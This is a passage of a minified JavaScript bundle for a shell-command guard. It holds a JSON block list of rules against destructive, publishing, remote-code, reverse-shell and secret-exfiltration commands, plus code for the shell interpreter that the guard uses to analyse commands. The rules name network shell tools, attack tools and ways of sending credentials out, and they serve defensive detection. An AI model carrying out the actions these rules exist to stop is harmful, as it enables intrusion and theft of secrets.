e","migration:fresh","migration:reset","migration:refresh"]},{"program":["node"],"args":{"any":["db:wipe","migration:fresh","migration:reset","migration:refresh\
"]}},{"program":["bench"],"subcommand":["reinstall","drop-site"]},{"program":["bench"],"args":{"any":["reinstall","drop-site"]},"flags":{"any":["--site"]}},{"pr\
ogram":["knex"],"subcommand":["migrate:rollback"],"flags":{"any":["--all"]}},{"program":["alembic"],"subcommand":["downgrade base"]},{"program":["flask"],"subco\
mmand":["db downgrade base"]},{"program":["pg_restore"],"flags":{"any":["-c","--clean"],"none":["-f","--file","-l","--list"]}},{"program":["mongorestore"],"flag\
s":{"any":["--drop"]}},{"program":["dotnet"],"subcommand":["ef database drop"]}]},{"code":"destructive_operation_blocked","id":"publish-package","category":"pub\
lishing","severity":"severe","explanation":"What is published cannot be taken back. Build the package; a person publishes it.","trust":3,"match":[{"program":["n\
pm","pnpm","bun","jsr","deno","npmpub","np","rush"],"subcommand":["publish","pub","stage publish"]},{"program":["yarn"],"subcommand":["publish","npm publish","w\
orkspaces foreach npm publish"]},{"program":["np","semantic-release","release-it","standard-version-publish"],"flags":{"none":["--help","--version","--preview"]\
}},{"program":["lerna","changeset","auto","nx","beachball"],"subcommand":["publish","shipit","release publish","release"]},{"program":["cargo"],"subcommand":["p\
ublish","yank","owner","release"],"flags":{"none":["--list","-l","--help"]}},{"program":["twine"],"subcommand":["upload"],"args":{"none":["testpypi"]}},{"progra\
m":["poetry","flit","hatch","pdm","uv","maturin"],"subcommand":["publish","upload"]},{"program":["python"],"args":{"any":["upload"]},"subcommand":["setup.py"]},\
{"program":["gem"],"subcommand":["push","yank","owner"]},{"program":["rake","bundle"],"args":{"any":["release","release:rubygem_push"]}},{"program":["mvn","mvnw\
"],"args":{"any":["deploy","release:perform","deploy:deploy*","nexus-staging:release"]},"line":{"none":["mvn *altDeploymentRepository=*::file:*"]}},{"program":[\
"gradle","gradlew"],"args":{"any":["publish","*:publish","publishAllPublications*","publishPlugins","uploadArchives","publishTo*Repository","closeAndRelease*","\
publishAndRelease*"],"none":["publishToMavenLocal"]}},{"program":["sbt"],"args":{"any":["publish","publishSigned","sonatype*"]}},{"program":["dotnet","nuget"],"\
subcommand":["nuget push","push","nuget delete","delete"]},{"program":["pod"],"subcommand":["trunk push","repo push","trunk delete"]},{"program":["vsce","ovsx"]\
,"subcommand":["publish","unpublish"]},{"program":["goreleaser"],"subcommand":["release"],"flags":{"none":["--snapshot","--skip-publish","--skip"]}},{"program":\
["mix"],"subcommand":["hex.publish"]},{"program":["dart","flutter"],"subcommand":["pub publish"]},{"program":["anaconda","conda"],"subcommand":["upload"]},{"pro\
gram":["clojure","lein","cabal","stack","opam","luarocks","cpan-upload","elm","conan"],"subcommand":["deploy","upload","publish"]},{"program":["snapcraft","char\
mcraft"],"subcommand":["upload","push","release"]},{"program":["wasm-pack"],"subcommand":["publish"]},{"program":["gh","glab"],"subcommand":["release create","r\
elease upload","release edit"],"flags":{"none":["--draft","-d"]}}]},{"code":"destructive_operation_blocked","id":"unpublish-package","category":"publishing","se\
verity":"severe","explanation":"This takes away or redirects what others install. Ask the person who owns the package.","trust":4,"match":[{"program":["npm","pn\
pm","yarn"],"subcommand":["unpublish","deprecate","owner add","owner rm","access public","access restricted","access grant","access revoke","access set","access\
 edit","access 2fa-*","dist-tag rm","dist-tag add * latest","team create","team destroy","team add","team rm","npm tag add","hook add","hook rm","hook update","\
org set","org rm"]}]},{"code":"destructive_operation_blocked","id":"push-image","category":"publishing","severity":"severe","explanation":"This publishes an ima\
ge. Build it; a person or the pipeline pushes it.","trust":3,"match":[{"program":["docker","podman","nerdctl","buildah","img"],"subcommand":["push","image push"\
,"manifest push","compose push"],"args":{"none":["localhost*","127.0.0.1*","*.local*","registry:5000*"]}},{"program":["docker"],"subcommand":["buildx build","bu\
ild","buildx bake"],"flags":{"any":["--push"]}},{"program":["docker-compose"],"subcommand":["push"]},{"program":["helm","oras","crane","regctl","ko","cosign"],"\
subcommand":["push","cm-push","copy"]},{"program":["skopeo"],"subcommand":["copy * docker://*","sync * docker://*"]}]},{"code":"destructive_operation_blocked","\
id":"remote-code","category":"remote-code","severity":"severe","explanation":"This runs code from elsewhere that nobody has looked at. Download it, read it, the\
n install it by the package manager if you can.","trust":4,"match":[{"program":["pip","uv","npm","pnpm","yarn"],"subcommand":["install","i","add","ci","download\
","pip install"],"to":"drop"},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval"],"from":{"program":["curl","wget",\
"fetch","http","https","xh","aria2c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ss\
h","dig","nslookup","socat"]},"args":{"at_most":0},"flags":{"none":["-c"]}},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","sou\
rce","eval"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","In\
voke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"flags":{"any":["-s"]}},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mks\
h","csh","tcsh",".","source","eval","python","perl","ruby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"f\
rom":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest\
","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"any":["-","/dev/*","/proc/*"]}},{"program":["python","perl","ruby","node","php","deno","bu\
n","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","n\
cat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"at_most":0},\
"flags":{"none":["-c","-m","-e","-p","-n","-r","--eval","--print"]}},{"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","e\
val","python","perl","ruby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"from":{"program":["base64","base\
32","basenc","xxd","openssl","uudecode","gunzip","zcat","gzip","rev","tr","gpg"]},"args":{"at_most":0},"flags":{"none":["-c","-m","-e","-p","-n","-r","--eval","\
--print"]}},{"program":["pip","npm","npx","gem","pnpm","yarn","uv","pipx","cargo","go"],"to":"drop"},{"program":["pip","npm","npx","gem","pnpm","yarn","uv","pip\
x"],"args":{"any":["http://*"]}},{"program":["sudo","env","xargs","tee"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat\
","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"args":{"any":["sh","bas\
h"]}},{"downloaded":true},{"program":["awk","gawk","mawk","sed","gsed","jq","bc","gnuplot"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c\
","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"opti\
ons":{"-f":["-","/dev/stdin","/dev/fd/0"]}},{"program":["sed","gsed"],"from":{"program":["curl","wget","fetch","http","https","xh","aria2c","lynx","nc","ncat","\
netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]},"options":{"--file":["-","/\
dev/stdin"]}},{"program":["pip"],"options":{"--index-url":["http://*"]}},{"program":["pip"],"options":{"--extra-index-url":["http://*"]}},{"program":["pip"],"op\
tions":{"-i":["http://*"]}},{"program":["deno","bun"],"subcommand":["run"],"args":{"any":["http://*","https://*"]}},{"program":["mshta","rundll32","regsvr32","c\
ertutil","bitsadmin"],"args":{"any":["*http://*","*https://*"]}},{"program":["ansible-pull"]},{"program":["npm","pnpm"],"subcommand":["pkg set scripts.*=*curl *\
","pkg set scripts.*=*wget *"]},{"program":["crontab","at","batch","psql","mysql","awk","make"],"from":{"program":["curl","wget","fetch","http","https","xh","ar\
ia2c","lynx","nc","ncat","netcat","axel","ftp","tftp","lwp-request","GET","scp","Invoke-WebRequest","iwr","Invoke-RestMethod","ssh","dig","nslookup","socat"]}}]\
},{"code":"destructive_operation_blocked","id":"run-made-code","category":"remote-code","severity":"severe","explanation":"Nobody can say before it runs which c\
ommands this program prints for the shell. Print them to a file, read it, then run it.","trust":3,"match":[{"program":["sh","bash","zsh","dash","ksh","ash","fis\
h"],"from":{"program":["perl","python","ruby","node","php","deno","bun","lua","awk","gawk","mawk","tclsh"]},"args":{"at_most":0},"flags":{"none":["-c"]}}]},{"co\
de":"destructive_operation_blocked","id":"reverse-shell","category":"exfiltration","severity":"catastrophic","explanation":"This gives somebody elsewhere a shel\
l on this machine.","match":[{"writes":["connection","local-connection"],"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source"\
,"eval","python","perl","ruby","node","php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"args":{"at_most":0}},{"reads"\
:["connection","local-connection"],"program":["sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval","python","perl","ruby","node",\
"php","deno","bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"args":{"at_most":0}},{"writes":["connection"],"program":["exec","nc\
"],"line":{"any":["sh","sh *","bash","bash *","zsh","dash","\\ufffc*"]}},{"program":["nc","ncat","netcat","nc.traditional","nc.openbsd"],"flags":{"any":["-e","--\
exec","--sh-exec","--lua-exec"]}},{"program":["nc","ncat","netcat","nc.traditional"],"options":{"-c":["*sh","*sh *","*.exe","\\ufffc*"]}},{"program":["socat"],"a\
rgs":{"any":["*exec:*","*EXEC:*","*system:*","*SYSTEM:*"],"none":["-","stdio*","STDIO*","pty*","PTY*","unix*","UNIX*","file:*","FILE:*","stdin*","STDIN*","exec:\
./*","EXEC:./*"]}},{"program":["sh","bash","zsh","dash"],"from":{"program":["nc","ncat","netcat","socat","telnet","mkfifo"]}},{"program":["sh","bash","zsh","das\
h"],"from":{"program":["openssl"]},"line":{"any":["openssl s_client*"]}},{"program":["nc","ncat","netcat","telnet","socat"],"from":{"program":["sh","bash","zsh"\
,"dash"],"operands_at_most":0}},{"program":["openssl"],"from":{"program":["sh","bash","zsh","dash"],"operands_at_most":0},"line":{"any":["openssl s_client*"]}},\
{"program":["sh","bash","zsh","dash"],"flags":{"any":["-i"]},"args":{"at_most":0},"line":{"any":["nc *"]},"via":["php","perl","ruby","python","node"]},{"program\
":["xterm"],"flags":{"any":["-display"]},"args":{"none":[":*"]}}]},{"code":"destructive_operation_blocked","id":"attack-tool","category":"exfiltration","severit\
y":"severe","explanation":"This is a tool for breaking into machines, or for listening to them. Say what it is needed for.","trust":4,"match":[{"program":["msfv\
enom"],"flags":{"none":["-l","--list","--list-options","-h","--help","-v","--version"]}},{"program":["chisel"],"subcommand":["server","client"]},{"program":["ms\
fconsole","meterpreter","pwncat","pwncat-cs","gs-netcat","evil-winrm","ettercap","bettercap","responder","Responder.py","arpspoof","logkeys","crackmapexec","net\
exec","impacket-secretsdump","secretsdump.py","linpeas.sh"],"flags":{"none":["--help","-h","--version"]}},{"program":["showkey"],"flags":{"any":["-k","-s","-a",\
"--keycodes","--scancodes","--ascii"]}},{"program":["xinput"],"subcommand":["test","test-xi2"]},{"program":["tcpdump","tshark","dumpcap"],"flags":{"any":["-w","\
-A","-X","-Y"],"none":["-r","--version","-h","--help","-D"]}},{"program":["ngrep"],"flags":{"none":["-h","-V","-I"]}}]},{"code":"credential_file_protected","id"\
:"send-secrets","category":"exfiltration","severity":"severe","explanation":"This sends secrets, or what may hold them, to another host. Nothing of the kind lea\
ves this machine.","match":[{"program":["curl","wget","http","https","xh","nc","ncat","netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt","ssh"\
,"ftp","tftp","sftp","lftp","websocat"],"from":{"program":["*"],"reads":["credentials","accounts","logs"]}},{"program":["curl","wget","http","https","xh","nc","\
ncat","netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat"],"from":{"program":["env","printenv","set\
","export","declare","history"]},"to":"remote"},{"program":["curl","wget","http","https","xh","nc","ncat","netcat","socat","telnet","openssl","mail","mailx","se\
ndmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat"],"unknown":true,"line":{"any":["env","env -0","printenv","printenv -0","set","export","export -p","de\
clare -p","declare -x","declare -xp","declare -px","typeset -p","typeset -x","compgen -v","compgen -e"]},"to":"remote"},{"program":["nc","ncat","netcat","telnet\
","socat","mail","mailx","sendmail"],"from":{"program":["env","printenv","set","history","export"]}},{"program":["curl","wget","scp","rsync","http","nc","ncat",\
"netcat","socat","telnet","openssl","mail","mailx","sendmail","mutt","ssh","ftp","tftp","sftp","lftp","websocat"],"reads":["credentials","accounts","system","ho\
me","root","kernel","logs"],"to":"remote"},{"program":["scp","rsync","sftp"],"reads":["credentials","accounts","system","home","root","personal","logs"],"args":\
{"any":["*:*"]}}]},{"code":"destructive_operation_blocked","id":"send-data","category":"exfiltration","severity":"severe","explanation":"This sends files or the\
 output of commands to another host. Leave what you have made in the workspace.","trust":3,"match":[{"program":["curl","wget","http","https","xh","httpie"],"fla\
gs":{"any":["-T","--upload-file","-F","--form","-d","--data","--data-binary","--data-urlencode","--data-raw","--json","--post-file","--body-file","--post-data",\
"--data-ascii"]},"to":"drop"},{"program":["gh"],"subcommand":["gist create","gist new"],"flags":{"any":["--public","-p"]},"args":{"at_least":1}},{"program":["nc\
","ncat","netcat","socat","telnet","scp","rsync","sftp","ftp","tftp","websocat"],"from":{"program":["*"]},"to":"remote"},{"program":["nc","ncat","netcat"],"read\
s":["source","outside","data","workspace","temp","disposable"],"to":"remote"},{"program":["nc","ncat","netcat","telnet","ssh","curl","wget"],"from":{"program":[\
"tar","zip","git","gzip","xz","pg_dump","pg_dumpall","mysqldump","mongodump","7z","cpio","sqlite3","find","bzip2","zstd","base64","openssl","gpg","xxd"]},"to":"\
remote"},{"program":["mail","mailx","s-nail","mutt","neomutt","sendmail","swaks","msmtp"],"from":{"program":["tar","zip","pg_dump","mysqldump","mongodump","gpg"\
,"base64","xxd"]}},{"program":["mail","mailx","s-nail","mutt","neomutt","sendmail","swaks","msmtp"],"reads":["credentials","data","home","personal","system","ac\
counts","vcs","logs"]},{"program":["mail","mailx","s-nail","mutt","neomutt","sendmail","swaks","msmtp"],"options":{"-a":["*.sql*","*.tar*","*.tgz","*.zip","*.db\
","*.env","*.pem","*.key","*id_*"]}},{"program":["croc","wormhole","magic-wormhole","ffsend","sendme"],"reads":["credentials","data","home","personal","system",\
"accounts","vcs","logs","workspace"]},{"program":["curl","wget","http"],"flags":{"any":["-T","--upload-file","-F","--form","-d","--data","--data-binary","--data\
-urlencode","--data-raw","--json","--post-file","--body-file","--post-data","--data-ascii"]},"reads":["data","credentials","home","personal","vcs"],"to":"remote\
"},{"program":["curl","wget"],"flags":{"any":["-T","--upload-file","--post-file"]},"to":"remote"},{"program":["curl","http","xh"],"flags":{"any":["-F","--form"]\
},"reads":["source","workspace","outside","temp","disposable"],"to":"remote"},{"program":["curl"],"args":{"any":["@*\\\\*\\\\*/*","@*/\\\\*.*"]},"to":"remote"},{"prog\
ram":["curl","http","xh"],"reads":["source","workspace","outside","temp","vcs"],"flags":{"any":["--data-binary","--data-urlencode"]},"to":"remote"},{"program":[\
"rsync","scp"],"reads":["workspace","source","vcs","personal","home","data","outside"],"args":{"any":["*:*"],"none":["localhost:*","127.0.0.1:*","*@localhost:*"\
,"*@127.0.0.1:*","*://localhost*","*://127.0.0.1*","*://*@localhost*"]}},{"program":["ssh"],"from":{"program":["*"],"reads":["workspace","source","vcs","persona\
l","home","data","outside"]},"line":{"none":["bash -s","sh -s","bash -s --","sh -s --","python3 -","python -"]},"to":"remote"},{"program":["ssh"],"reads":["work\
space","source","vcs","personal","home","data","outside"],"line":{"none":["bash -s","sh -s","bash -s --","sh -s --","python3 -","python -"]},"to":"remote"},{"pr\
ogram":["git"],"subcommand":["push","send-pack"],"args":{"any":["*://*","*@*:*","*.*:*.git"],"none":["localhost:*","127.0.0.1:*","*@localhost:*","*@127.0.0.1:*"\
,"*://localhost*","*://127.0.0.1*","*://*@localhost*","file://*"]}},{"program":["git"],"subcommand":["push"],"line":{"any":["git remote add * *://*","git remote\
 add * *@*:*","git remote set-url * *://*","git remote set-url * *@*:*"]}},{"program":["socat"],"from":{"program":["*"]},"args":{"any":["TCP*:*.*","tcp*:*.*","O\
PENSSL:*.*","UDP*:*.*","udp*:*.*"],"none":["*127.0.0.1*"]}},{"program":["openssl"],"from":{"program":["*"],"reads":["source","outside","data","workspace","perso\
nal","home","logs"]},"options":{"-connect":["*.*"]}},{"program":["http.server"],"reads":["root","home","system","credentials"]},{"program":["httpd"],"options":{\
"-h":["/","~","/home*","/etc*","/root*"]}},{"program":["ab"],"reads":["credentials","home","personal","accounts","system"]},{"program":["php"],"flags":{"any":["\
-S"]},"options":{"-t":["/","~","~/","/home*","/etc*","/root*"]}},{"program":["socat"],"args":{"any":["FILE:*","OPEN:*","file:*","open:*"]}},{"program":["aws"],"\
subcommand":["s3 cp","s3 sync","s3 mv"],"reads":["credentials","workspace","data","home","system","accounts","vcs"],"args":{"any":["s3://*"]}},{"program":["gsut\
il","gcloud","rclone","azcopy","mc","az","b2","s3cmd","s5cmd","megaput","gdrive","storj","uplink"],"reads":["credentials","home","system","accounts","data","wor\
kspace","personal","vcs","logs"]},{"program":["transfer","transfer.sh","pastebinit","gist","wetransfer"],"flags":{"none":["--help","-h","--version"]}},{"program\
":["gh"],"subcommand":["gist create"],"reads":["credentials","home","personal","startup","system","accounts","logs"]},{"program":["writes","cat","echo","printf"\
,"tar","dd","base64","exec",":","sh","bash","zsh","dash","ksh","ash","fish","mksh","csh","tcsh",".","source","eval","python","perl","ruby","node","php","deno","\
bun","lua","osascript","tclsh","pwsh","powershell","Invoke-Expression","iex"],"writes":["connection"]}]},{"code":"destructive_operation_blocked","id":"smuggle-d\
ata","category":"exfiltration","severity":"severe","explanation":"This puts what a command finds into an address that another host sees.","trust":4,"match":[{"p\
rogram":["dig","nslookup","host","drill","kdig","doggo","ping","getent"],"args":{"any":["*\\ufffc*.*","*\\ufffc.*"]}},{"program":["ping"],"options":{"-p":["*\\ufff\
c*"]}},{"program":["dig","nslookup","host","drill","kdig","doggo"],"args":{"any":["*.*.*"]},"line":{"any":["base64*","base32*","xxd*","od *","hexdump*","whoami"\
,"hostname","id"]}},{"program":["curl","wget","http","https","xh"],"to":"drop","args":{"any":["*\\ufffc*"]}},{"program":["curl","wget","xh"],"args":{"any":["*\\uf\
ffc*"]},"line":{"any":["base64*","base32*","xxd*","whoami"]},"to":"remote"},{"program":["ssh"],"flags":{"any":["-R","-D","-w"]}},{"program":["ssh"],"options":{"\
-L":["0.0.0.0:*","\\\\*:*"]}},{"program":["ngrok","cloudflared","localtunnel","lt","bore","frpc","serveo","tailscale","zrok","iodine","dnscat","dnscat2"],"flags":\
{"none":["--help","--version"]},"args":{"none":["version","help","status","completion","list","info","verify","ip","netcheck","ping","whois","config"]}},{"progr\
am":["code","code-insiders","cursor"],"subcommand":["tunnel"]},{"program":["ttyd"],"flags":{"any":["-W","--writable"]}},{"program":["gotty"],"flags":{"any":["-w\
","--permit-write"]}},{"program":["wetty","shellinaboxd","sshx","tmate"],"flags":{"none":["-h","--help","-V","--version"]}}]},{"code":"destructive_operation_blo\
cked","id":"delete-over-http","category":"exfiltration","severity":"risky","explanation":"This deletes something of another service. Ask the person who owns it.\
","trust":3,"match":[{"program":["curl","wget"],"options":{"-X":["DELETE","delete"]},"to":"remote"},{"program":["curl","wget"],"options":{"--request":["DELETE",\
"delete"]},"to":"remote"},{"program":["curl","wget"],"options":{"--method":["DELETE","delete"]},"to":"remote"},{"program":["http","https","xh","xhs"],"subcomman\
d":["DELETE","delete"],"to":"remote"},{"program":["curl","wget","http","https","xh","xhs"],"options":{"-X":["POST","PUT","PATCH"]},"args":{"any":["http*/bulk*de\
lete*","http*/batch*delete*","http*/delete","http*/delete/","http*/delete_*","http*/deleteAll*","http*/_delete_by_query*","http*/purge","http*/purge_*","http*/t\
runcate","http*/destroy","http*/flush_all","http*:purge","http*:bulkDelete","http*.delete"]},"to":"remote"}]}]');function ls(t,e){if(t.length<=e)return t;let s=t.slice(e).every(({text:r})=>/^\d{1,9}$/.test(r));return[...t.slice(0,e),R(s?"\uFFFC":"\uFFFC\uFFFB")]}var Wr=({text:t,
glob:e})=>e||/^[\w@%+=:,./-]+$/.test(t)?t:`'${t.replaceAll("'","'\\''")}'`,pi=({text:t})=>/[\s{};|&<>()$'"`]/.test(t),Mr=t=>t.map(Wr).join(" ");gt();var ec=class{constructor(e){this.text=e;this.remaining=e}text;remaining;readRest(){let e=this.remaining;return this.remaining="",e}readLine(){if(this.remaining===
"")return this.text.includes("\uFFFC")?Lt(this.text):void 0;let[e=""]=this.remaining.split(`
`,1);return this.remaining=this.remaining.slice(e.length+1),e}},lr=(t,e)=>({...t,wrappers:[...t.wrappers,e]}),st=(t,e,s)=>({...t,input:s,stdin:new ec(e)});var cs=64*1024,cm=32,tc=1e4,sc=1e3,Ut=(t,e)=>t.length+e.length>cs?"\uFFFC\uFFFB":t+e,fi=class{problem;steps=0;depth=0;invocations=0;spend(e=1){return this.steps+=
e,this.steps>tc&&this.fail("too-much",`takes more than ${tc} steps to read`),this.steps<=tc}spendInvocation(){return this.invocations+=1,this.invocations>sc&&this.
fail("too-much",`more than ${sc} commands`),this.invocations<=sc}descend(e,s){if(this.depth>=cm)return this.fail("too-deep",`commands are nested more than ${cm}\
 deep`),s;this.depth+=1;let r=this.spend()?e():s;return this.depth-=1,r}fail(e,s){this.problem??={kind:e,detail:s}}};var mi=class{constructor(e,s){this.files=e;this.readCode=s}files;readCode;budget=new fi;invocations=[];sources=new Map;activeScripts=[];gitAliases=new Map;substituted=[];record(e){
this.budget.spendInvocation()&&this.invocations.push(e)}reportForkBomb({scope:e,context:s}){this.record(new _n(this,e,s,[R("fork-bomb")]).createInvocation())}},
_n=class t{constructor(e,s,r,n){this.interpreter=e;this.scope=s;this.context=r;this.words=n;let o=n[0].text;this.program=o.slice(o.lastIndexOf("/")+1),this.args=
n.slice(1)}interpreter;scope;context;words;program;args;filter;with(e){return Object.assign(new t(this.interpreter,this.scope,this.context,this.words),this,e)}wrap(e=this.
program){return this.with({context:lr(this.context,e)})}redirect(e){return this.with({context:{...this.context,redirects:[...this.context.redirects,...e]}})}feedFrom(e=[]){
return e.length===0?this:this.with({context:{...this.context,input:{kind:"pipe",from:e}}})}feedFromSubstitution(e){return e.trimStart().startsWith("\uFFFC")?this.
feedFrom(this.interpreter.substituted):this}withoutInput(){return this.with({context:{...this.context,input:void 0}})}consumeInput(){return this.with({context:st(
this.context,"",void 0)})}createChildScope(e=[R(this.program)]){return this.scope.child(e,this.context.environment)}findWritten(e){return this.interpreter.sources.
get(e)??this.interpreter.files.written(e,this.scope.folder)}readFiles(e){return(e.length>0?e:[{text:"-"}]).map(({text:r})=>(r==="-"||r==="/dev/stdin"?this.context.
stdin?.readRest():this.findWritten(r)?.text)??"\uFFFC").join("")}write(e,s,r){this.interpreter.files.write(e,s,this.scope.folder,r)}createInvocation(){let{program:e,
words:s,args:r,scope:n,context:o,filter:i}=this,[a]=n.get("POSIXLY_CORRECT")?.words??[];return{program:e,path:s[0].text,args:r,redirects:o.redirects,environment:{
...we({POSIXLY_CORRECT:a}),...n.exported(),...o.environment},wrappers:o.wrappers,language:"shell",...we({input:o.input,filter:i,needs:o.needs,captured:o.captured,
folder:n.folder===void 0?void 0:R(n.folder)})}}record(){return this.interpreter.addInvocation(this)}runWords(e,s=this.scope){return this.interpreter.runWords(e,
s,lr(this.context,this.program))}runCommandWords(e){return e.length===1&&pi(e[0])?this.runShell(e[0].text):this.runWords(e)}runScript(e,s=this.scope){return this.
interpreter.runScript(e,s,lr(this.context,this.program))}runShell(e,s){let r=lr(this.context,t$(this.program));return this.interpreter.runScript(e,this.createChildScope(
s),r)}},hi=t=>new Map(Object.entries(t).flatMap(([e,s])=>e.split(" ").map(r=>[r,s]))),t$=t=>S.forms.package_runner.test(t)?`${t} -c`:t;var dm=12,Sn={words:[R("\uFFFC")],exported:!1},bi=class t{constructor(e){this.budget=e}budget;variables=new Map;references=new Map;functions=new Map;aliases=new Map;folder;arguments=[
R("bash")];last="";hasAlternatives=!1;fixed=new Set;environment;get(e){return this.variables.get(this.references.get(e)??e)}addReference(e,s){e!==s&&(this.references=
new Map(this.references).set(e,s))}value(e){let s=this.references.get(e)??e,r=this.variables.get(s);return r?r.words[0]?.text??"":s==="PWD"?this.folder??".":s===
"_"?this.last:Object.hasOwn(S.shellVariables,s)?S.shellVariables[s]:"\uFFFC"}set(e,s,r=this.get(e)?.exported??!1){let n=this.references.get(e)??e;this.fixed.has(
n)?this.variables.set(n,{...Sn,exported:r}):this.variables.set(n,{words:s,exported:r}),r&&(this.environment=void 0)}assign({name:e,append:s,index:r,value:n},o){
let i=s||r?this.get(e)?.words??[]:[];r?this.set(e,s$(i,r.value,o[0])):n.type==="ArrayValue"?this.set(e,[...i,...o]):this.set(e,s?[R((i[0]?.text??"")+o[0].text,o[0].
glob)]:o)}export(e){let s=this.variables.get(e);s&&this.set(e,s.words,!0)}fix(e){this.fixed=new Set([...this.fixed,e])}exported(){if(this.environment)return this.
environment;this.budget.spend(this.variables.size>>3);let e={};for(let[s,{words:r,exported:n}]of this.variables)n&&r[0]&&(e[s]=r[0]);return this.environment=e,e}define(e,s){
let n=this.functions.get(e)?.bodies??[];this.functions.set(e,{bodies:n.includes(s)?n:[...n,s],certain:!0})}alias(e,s){this.aliases.set(e,[...this.aliases.get(e)??
[],s])}copy(){this.budget.spend(1+(this.variables.size>>3));let e=Object.assign(new t(this.budget),this);return e.variables=new Map(this.variables),e.functions=
new Map([...this.functions].map(([s,r])=>[s,{...r}])),e.aliases=new Map(this.aliases),e}child(e,s={}){let r=this.copy();for(let[n,{exported:o}]of this.variables)
o||r.variables.set(n,Sn);for(let n of r.functions.values())n.certain=!1;for(let[n,o]of Object.entries(s))r.set(n,[o],!0);return r.aliases.clear(),r.arguments=e,
r}same(e){let s=([r,n])=>gi(n)===gi(e.variables.get(r));return this.variables.size===e.variables.size&&[...this.variables].every(s)}listAlternatives(e){let s=e.
map(n=>n&&"text"in n?n.text:"").join(`
`);return[...new Set([...s.matchAll(/\$\{?[!#]?([A-Za-z_]\w*)/g)].map(([,n])=>n))].flatMap(n=>(this.get(n)?.alternatives??[]).map(o=>{let i=this.copy();return i.
set(n,o),i}))}mayBe(e,s){let r=this.variables.get(e)??Sn,n=r.alternatives??[];if(n.some(i=>rc(i)===rc(s)))return;this.hasAlternatives=!0;let o=n.length<dm?s:[R(
"\uFFFC\uFFFB")];n.length<=dm&&this.variables.set(e,{...r,alternatives:[...n,o]})}join(e){for(let s of new Set([...this.variables.keys(),...e.variables.keys()])){
let[r,n]=[this.variables.get(s),e.variables.get(s)];if(r===n)continue;gi(r)!==gi(n)&&this.set(s,Sn.words,(r?.exported||n?.exported)??!1);let o=r$([r,n]);if(o.length>
1||this.variables.get(s)?.words===Sn.words)for(let i of o)this.mayBe(s,i)}e.arguments.length>=this.arguments.length&&(this.arguments=e.arguments);for(let[s,{bodies:r,
certain:n}]of e.functions){let o=this.functions.get(s);o?o.bodies.length<r.length&&this.functions.set(s,{bodies:r,certain:o.certain&&n}):this.functions.set(s,{bodies:r,
certain:!1})}for(let[s,r]of this.functions)e.functions.has(s)||this.functions.set(s,{...r,certain:!1});for(let[s,r]of e.aliases)(this.aliases.get(s)?.length??0)<
r.length&&this.aliases.set(s,r);this.folder!==e.folder&&(this.folder="\uFFFC")}};function s$(t,e,s=R("")){let r=/^\d{1,3}$/.test(e)?Number(e):0,n=Math.max(t.length,
r+1);return Array.from({length:n},(o,i)=>i===r?s:t[i]??R(""))}var rc=t=>t.map(({text:e})=>e).join("\0"),gi=t=>t&&rc(t.words),r$=t=>t.flatMap(e=>e?[e.words,...e.
alternatives??[]]:[]).filter(e=>e.some(({text:s})=>s!==""&&(!s.includes("\uFFFC")||je(s))));var{escapes:n$,forms:um}=S,Oe=t=>t.map(e=>`${e}
`).join("");function ds(t){return t.replace(um.printf_escape,(e,s,r,n,o,i)=>{if(i!==void 0)return n$[i]??(i==="\\"?"\\":`\\${i}`);let a=o===void 0?Number.parseInt(
s??r??n,16):Number.parseInt(o,8);return a<=1114111?String.fromCodePoint(a):""})}function Cn([t="",...e]){if(t==="--")return Cn(e);if(t.startsWith("-v"))return"";
let s="",r=0;do{let n=r;if(s+=o$(t,()=>e[r++]??""),r===n)break}while(r<e.length&&s.length<=cs);return s}function o$(t,e){return t.replace(um.printf_directive,(s,r,n,o)=>{
if(s==="%%")return"%";if(o===void 0)return ds(s);r==="*"&&e(),n==="*"&&e();let i=e();if(i.includes("\uFFFC"))return i;if(o==="b")return ds(i);if(o==="c")return i.
slice(0,1);if(o==="s")return/^\d+$/.test(n??"")?i.slice(0,Number(n)):i;let a=/^['"]/.test(i)?i.codePointAt(1)??0:Number(i||0);return Number.isSafeInteger(a)?o===
"x"||o==="X"||o==="o"?a.toString(o==="o"?8:16):"diu".includes(o)?String(a):"\uFFFC":"\uFFFC"})}var En=require("node:path");var{forms:Cs}=S,i$={"%%":"%","%n":`
